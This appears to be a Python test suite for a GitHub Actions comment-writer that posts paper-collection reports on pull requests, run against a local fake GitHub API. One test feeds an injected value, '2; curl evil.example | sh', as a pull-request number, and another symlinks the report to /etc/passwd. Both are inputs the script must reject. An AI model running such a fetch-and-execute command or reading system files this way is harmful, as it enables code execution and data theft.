"""The comment writer (generator/contrib/comment.py), run as pr-comment.yml runs it: as a file with
the system's Python, against a GitHub API served on 127.0.0.1 that answers with recorded responses
(tests/fixtures/github/README.md says where each came from) and records what it was sent."""

from __future__ import annotations

import copy
import http.server
import json
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from paper_collection.contrib.comment import LIMIT, REPORT_MARKER, SUGGESTION_MARKER, fit
from tests.github_fixture import FIXTURES

SCRIPT = Path(__file__).resolve().parent.parent / "generator" / "contrib" / "comment.py"
EVENT = json.loads((FIXTURES / "events" / "workflow_run.completed.with-pull-requests.json").read_text("utf-8"))
COMMENTS = json.loads((FIXTURES / "rest" / "issue-comments.json").read_text("utf-8"))
PULL = json.loads((FIXTURES / "rest" / "pull.json").read_text("utf-8"))
HEAD = EVENT["workflow_run"]["head_sha"]
REPOSITORY = EVENT["repository"]["full_name"]


class FakeGitHub(http.server.ThreadingHTTPServer):
    def __init__(self, comments: list, pull: dict) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.comments = comments
        self.pull = pull
        self.requests: list[tuple[str, str, dict | None]] = []


class _Handler(http.server.BaseHTTPRequestHandler):
    server: FakeGitHub

    def log_message(self, *args):
        pass

    def _answer(self, status: int, payload) -> None:
        data = json.dumps(payload).encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def _record(self) -> dict | None:
        length = int(self.headers.get("Content-Length") or 0)
        body = json.loads(self.rfile.read(length)) if length else None
        assert self.headers["Authorization"] == "Bearer test-token"
        self.server.requests.append((self.command, self.path, body))
        return body

    def do_GET(self):
        self._record()
        prefix = f"/repos/{REPOSITORY}"
        if self.path == f"{prefix}/issues/2/comments?per_page=100&page=1":
            return self._answer(200, self.server.comments)
        if self.path == f"{prefix}/pulls/2":
            return self._answer(200, self.server.pull)
        return self._answer(404, {"message": "Not Found"})

    def do_POST(self):
        body = self._record()
        return self._answer(201, {"id": 1, "html_url": "https://github.com/x/y/pull/2#issuecomment-1", **body})

    def do_PATCH(self):
        body = self._record()
        return self._answer(200, {"id": 2, "html_url": "https://github.com/x/y/pull/2#issuecomment-2", **body})


@pytest.fixture
def github():
    server = FakeGitHub(copy.deepcopy(COMMENTS), copy.deepcopy(PULL))
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()


def pull_request_event(tmp_path: Path, **changes) -> Path:
    """The recorded workflow_run event, as a pull_request run's (the example was a repository_dispatch)."""
    event = copy.deepcopy(EVENT)
    event["workflow_run"].update({"event": "pull_request", **changes})
    path = tmp_path / "event.json"
    path.write_text(json.dumps(event), encoding="utf-8")
    return path


def run_writer(github: FakeGitHub, event: Path, *args: str) -> subprocess.CompletedProcess:
    env = {"GITHUB_API_URL": f"http://127.0.0.1:{github.server_address[1]}", "GITHUB_REPOSITORY": REPOSITORY,
           "GITHUB_EVENT_PATH": str(event), "GH_TOKEN": "test-token", "PATH": "/usr/bin:/bin"}
    # -I: as in the workflow, nothing of this environment (no installed package) is imported.
    return subprocess.run([sys.executable, "-I", str(SCRIPT), *args], capture_output=True, text=True, env=env)


def report_dir(tmp_path: Path, number: str, report: str | None) -> Path:
    folder = tmp_path / "pr-report"
    folder.mkdir()
    (folder / "pr-number.txt").write_text(number + "\n", encoding="utf-8")
    if report is not None:
        (folder / "report.md").write_text(report, encoding="utf-8")
    return folder


REPORT = "## Papers in this pull request\n\n1 added (compared with HEAD\\^1)\n\n- **added** a\\.md: A — ok\n"


def test_updates_the_bots_comment_not_a_persons(github, tmp_path):
    result = run_writer(github, pull_request_event(tmp_path), "report", "--report-dir",
                        str(report_dir(tmp_path, "2", REPORT)))
    assert result.returncode == 0, result.stderr
    assert result.stdout == "#2: updated comment https://github.com/x/y/pull/2#issuecomment-2\n"
    methods = [(method, path) for method, path, _ in github.requests]
    assert methods == [("GET", f"/repos/{REPOSITORY}/pulls/2"),
                       ("GET", f"/repos/{REPOSITORY}/issues/2/comments?per_page=100&page=1"),
                       ("PATCH", f"/repos/{REPOSITORY}/issues/comments/1081119452")]
    body = github.requests[-1][2]["body"]
    assert body.startswith(REPORT_MARKER + "\n" + REPORT.rstrip() + "\n\n<sub>From [the checks]"
                           "(https://github.com/octo-org/octo-repo/actions/runs/289782451) of commit 3484a3f")


def test_creates_the_comment_when_there_is_none(github, tmp_path):
    github.comments = github.comments[:1]  # only the person's comment with the marker
    result = run_writer(github, pull_request_event(tmp_path), "report", "--report-dir",
                        str(report_dir(tmp_path, "2", REPORT)))
    assert result.returncode == 0, result.stderr
    method, path, body = github.requests[-1]
    assert (method, path) == ("POST", f"/repos/{REPOSITORY}/issues/2/comments")
    assert body["body"].startswith(REPORT_MARKER + "\n## Papers in this pull request")


@pytest.mark.parametrize("number", ["2; curl evil.example | sh", "-2", "0x2", "", "2 3", "٢"])
def test_a_number_that_is_not_a_plain_integer_posts_nothing(github, tmp_path, number):
    result = run_writer(github, pull_request_event(tmp_path), "report", "--report-dir",
                        str(report_dir(tmp_path, number, REPORT)))
    assert result.returncode == 1
    assert "is not a pull request or issue number; nothing posted" in result.stderr
    assert github.requests == []


def test_a_number_naming_another_pull_request_posts_nothing(github, tmp_path):
    """A fork's run could write any number; the named pull request's head must be the checked commit."""
    github.pull["head"]["sha"] = "f" * 40
    result = run_writer(github, pull_request_event(tmp_path), "report", "--report-dir",
                        str(report_dir(tmp_path, "2", REPORT)))
    assert result.returncode == 1
    assert result.stderr == ("error: pull request #2's head is fffffff, not the checked commit 3484a3f (a newer "
                             "push, or a wrong number): nothing posted\n")
    assert [method for method, _, _ in github.requests] == ["GET"]


def test_a_run_that_ended_before_its_report_says_so(github, tmp_path):
    """No artifact: the number is the one GitHub lists (a branch of this repository)."""
    result = run_writer(github, pull_request_event(tmp_path, conclusion="failure"), "report", "--report-dir",
                        str(tmp_path / "not-downloaded"))
    assert result.returncode == 0, result.stderr
    body = github.requests[-1][2]["body"]
    assert body.startswith(REPORT_MARKER + "\n## Papers in this pull request\n\nThe checks ended before writing "
                                           "their report (conclusion: failure). Open the run")


def test_a_run_not_for_a_pull_request_posts_nothing(github, tmp_path):
    event = tmp_path / "event.json"
    event.write_text(json.dumps(EVENT), encoding="utf-8")  # as recorded: a repository_dispatch run
    result = run_writer(github, event, "report", "--report-dir", str(report_dir(tmp_path, "2", REPORT)))
    assert result.returncode == 0
    assert "not a pull request: nothing to post" in result.stdout
    assert github.requests == []


def test_an_answer_on_an_issue_has_its_own_marker(github, tmp_path):
    answer = tmp_path / "answer.md"
    answer.write_text("Thank you! This would add **A paper**.\n", encoding="utf-8")
    github.comments = []
    result = run_writer(github, pull_request_event(tmp_path), "answer", "--number", "2", "--body-file", str(answer))
    assert result.returncode == 0, result.stderr
    assert github.requests[-1][2] == {"body": SUGGESTION_MARKER + "\nThank you! This would add **A paper**.\n"}


def test_a_report_too_long_for_a_comment_is_cut_where_a_line_ends():
    body = fit("- a line\n" * 10_000, "https://github.com/o/r/actions/runs/1")
    assert len(body) < LIMIT + 200
    assert body.endswith("- a line\n\n… (cut: too long for a comment; the whole report is in "
                         "[the run's summary](https://github.com/o/r/actions/runs/1))\n")


# -- suggest-paper.yml's `Post the answer` step, as GitHub runs it --------------------------------------

ANSWER_JOB = "answer"


@pytest.mark.parametrize(("prepare", "wrote", "opened", "answer", "expected_start", "expected_end"), [
    ("skipped", "", "skipped", "**Thank you for the suggestion.** ...\n", "**Thank you", "...\n"),
    ("failure", "failure", "skipped", "**The accepted suggestion could not be added.** x.\n", "**The accepted",
     "x.\n"),
    ("success", "success", "success", "**Accepted.** ...\n", "**Accepted.**",
     "The pull request is open (under Development in the side bar); its checks are running.\n"),
    ("failure", "success", "skipped", "**Accepted.** ...\n", "**Accepted.**",
     "To try again, a maintainer removes the `accepted-suggestion` label and adds it again.\n"),
    ("success", "success", "failure", "**Accepted.** ...\n", "**Accepted.**",
     "To try again, a maintainer removes the `accepted-suggestion` label and adds it again.\n"),
    ("failure", "", "skipped", None, "**The check stopped before it could answer** (see [the run]"
     "(https://github.com/octo-org/octo-repo/actions/runs/5))", "says how to try again.\n"),
])
def test_the_answer_step_says_how_it_went(github, tmp_path, prepare, wrote, opened, answer, expected_start,
                                          expected_end):
    from tests.github_fixture import run_step, step_script, workflow_job

    github.comments = []
    if answer is not None:
        (tmp_path / "answer").mkdir()
        (tmp_path / "answer" / "answer.md").write_text(answer, encoding="utf-8")
    script = step_script(workflow_job("suggest-paper.yml", ANSWER_JOB), "Post the answer")
    env = {"GITHUB_API_URL": f"http://127.0.0.1:{github.server_address[1]}", "GITHUB_REPOSITORY": REPOSITORY,
           "GH_TOKEN": "test-token", "RUNNER_TEMP": str(tmp_path), "ISSUE_NUMBER": "2", "PREPARE": prepare,
           "WROTE": wrote, "OPEN_PULL_REQUEST": opened, "PATH": "/usr/bin:/bin",
           "RUN_URL": "https://github.com/octo-org/octo-repo/actions/runs/5"}
    result = run_step(SCRIPT.parent.parent.parent, script, env)
    assert result.returncode == 0, result.stderr
    body = github.requests[-1][2]["body"]
    assert body.startswith(SUGGESTION_MARKER + "\n" + expected_start) and body.endswith(expected_end), body


def test_a_report_that_links_elsewhere_posts_nothing(github, tmp_path):
    folder = report_dir(tmp_path, "2", None)
    (folder / "report.md").symlink_to("/etc/passwd")
    result = run_writer(github, pull_request_event(tmp_path), "report", "--report-dir", str(folder))
    assert result.returncode == 1 and "is not a regular file; nothing posted" in result.stderr
    assert [method for method, _, _ in github.requests] == ["GET"]  # only the head was looked at


# -- the two workflows together: the pull request's report becomes the comment -------------------------


def test_the_pull_requests_report_becomes_its_comment(github, tmp_path):
    """pull-request.yml's `Summarise the papers` step on GitHub's test merge (a shallow checkout), then
    pr-comment.yml's `Create or update the comment` step on what it left in RUNNER_TEMP (what the
    artifact carries), against the recorded API answers."""
    from tests.github_fixture import (
        checkout_like_actions,
        commit_file,
        git,
        make_pull_request_merge,
        new_project,
        paper_text,
        run_step,
        step_script,
        workflow_job,
    )

    origin = new_project(tmp_path / "origin", {})
    git(origin, "switch", "--quiet", "-c", "contribution")
    commit_file(origin, "images-of-hospitals.md", paper_text("Images of <Hospitals>", "Scans from three hospitals, "
                "segmented with twelve labelled images each."), "Add a paper", date="2026-02-01T10:00:00+00:00")
    head = git(origin, "rev-parse", "HEAD").strip()
    make_pull_request_merge(origin, "contribution", 2, date="2026-02-02T10:00:00+00:00")
    checkout = checkout_like_actions(origin, tmp_path / "checkout", 2, 2)
    temp = tmp_path / "runner-temp"
    temp.mkdir()
    report_step = step_script(workflow_job("pull-request.yml", "papers"), "Summarise the papers in this pull request")
    result = run_step(checkout, report_step, {
        "BASE_REF": "HEAD^1", "BASE_NAME": "main", "RUNNER_TEMP": str(temp), "PR_NUMBER": "2",
        "GITHUB_STEP_SUMMARY": str(tmp_path / "summary.md"), "NO_MKDOCS_2_WARNING": "1",
        "SITE_ARTIFACT_URL": "https://github.com/octo-org/octo-repo/actions/runs/289782451/artifacts/9"})
    assert result.returncode == 0, result.stderr
    github.pull["head"]["sha"] = head
    event = pull_request_event(tmp_path, head_sha=head)
    comment_step = step_script(workflow_job("pr-comment.yml", "comment"), "Create or update the comment")
    result = run_step(SCRIPT.parent.parent.parent, comment_step, {
        "GITHUB_API_URL": f"http://127.0.0.1:{github.server_address[1]}", "GITHUB_REPOSITORY": REPOSITORY,
        "GITHUB_EVENT_PATH": str(event), "GH_TOKEN": "test-token", "RUNNER_TEMP": str(temp), "PATH": "/usr/bin:/bin"})
    assert result.returncode == 0, result.stderr
    method, path, body = github.requests[-1]
    assert (method, path) == ("PATCH", f"/repos/{REPOSITORY}/issues/comments/1081119452")
    assert body["body"].startswith(REPORT_MARKER + "\n## Papers in this pull request\n\n1 added (compared with main)"
                                   "\n\n- **added** content\\/papers\\/images\\-of\\-hospitals\\.md: Images of "
                                   "\\<Hospitals\\> — ok\n")
    assert body["body"] == REPORT_MARKER + "\n" + (temp / "pr-report" / "report.md").read_text().rstrip() + (
        f"\n\n<sub>From [the checks](https://github.com/octo-org/octo-repo/actions/runs/289782451) of commit "
        f"{head[:7]}; updated on every push.</sub>\n")
    assert (temp / "pr-report" / "pr-number.txt").read_text() == "2\n"
